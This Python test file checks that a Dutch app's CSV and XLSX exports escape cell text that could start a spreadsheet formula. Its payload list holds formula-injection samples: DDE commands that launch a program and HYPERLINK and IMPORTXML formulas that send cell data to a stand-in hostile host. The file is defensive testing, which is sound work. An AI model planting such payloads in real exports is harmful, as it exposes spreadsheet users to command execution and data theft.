"""A table as a file: what a spreadsheet shows is what was written, and nothing of it is calculated."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wijkapp.exports.table import Table, escaped, to_csv, to_xlsx

NOW = datetime(2027, 3, 1, 9, 30, tzinfo=UTC)
DAY = date(2027, 4, 12)
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://kwaad.voorbeeld/?x="&A1,"klik")',
    '=IMPORTXML(CONCAT("http://kwaad.voorbeeld/?",A1),"//a")',
    "+31612345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
PLAIN = ["", "gewoon", " =1+1", "'=1+1", "1-2", "a=b", 'é; "x"', "http://voorbeeld.nl", "12-04-2027", "0612345678"]


def table(*cells: str | date | None) -> Table:
    return Table("Overzicht", ("Kop",), tuple((cell,) for cell in cells))


def in_csv(*cells: str | date | None) -> list[str]:
    text = to_csv(table(*cells)).decode("utf-8-sig")
    return [row[0] if row else "" for row in csv.reader(io.StringIO(text, newline=""), delimiter=";")][1:]


def in_xlsx(*cells: str | date | None) -> tuple[list[str], str]:
    """The texts of the cells below the heading, and the sheet as it is written."""
    book = zipfile.ZipFile(io.BytesIO(to_xlsx(table(*cells), NOW)))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    shared = ET.fromstring(book.read("xl/sharedStrings.xml"))
    texts = ["".join(part.text or "" for part in one.iter(f"{space}t")) for one in shared.iter(f"{space}si")]
    places = [cell.find(f"{space}v") for cell in ET.fromstring(sheet).iter(f"{space}c") if cell.get("t") == "s"]
    return [texts[int(place.text or 0)] for place in places if place is not None][1:], sheet


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_starts_with_an_apostrophe_in_both(text: str) -> None:
    (from_csv,), (from_xlsx, sheet) = in_csv(text), in_xlsx(text)

    assert from_csv == f"'{text}"
    assert [one.replace("_x000D_", "\r") for one in from_xlsx] == [f"'{text}"]
    assert "<f>" not in sheet


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_stay_as_they_are(text: str) -> None:
    from_xlsx, sheet = in_xlsx(text)

    assert in_csv(text) == [text]
    assert from_xlsx == ([text] if text else [])
    assert "hyperlink" not in sheet


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
def test_no_text_at_all_starts_a_formula_or_ends_its_cell(text: str) -> None:
    assert not escaped(text).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert escaped(text) in {text, f"'{text}"}
    assert in_csv(text) == [escaped(text)]


def test_a_csv_file_opens_in_a_dutch_excel() -> None:
    made = to_csv(Table("Overzicht", ("Wie", "Wanneer"), (("Zoë", DAY), ("Mo", None))))

    assert made == "\ufeffWie;Wanneer\r\nZoë;12-04-2027\r\nMo;\r\n".encode()


def test_a_day_in_excel_is_a_day_and_not_a_text() -> None:
    texts, sheet = in_xlsx(DAY)

    assert texts == []
    assert f"<v>{(DAY - date(1899, 12, 30)).days}</v>" in sheet


def test_a_table_without_rows_is_its_headings() -> None:
    assert in_csv() == []
    assert in_xlsx()[0] == []
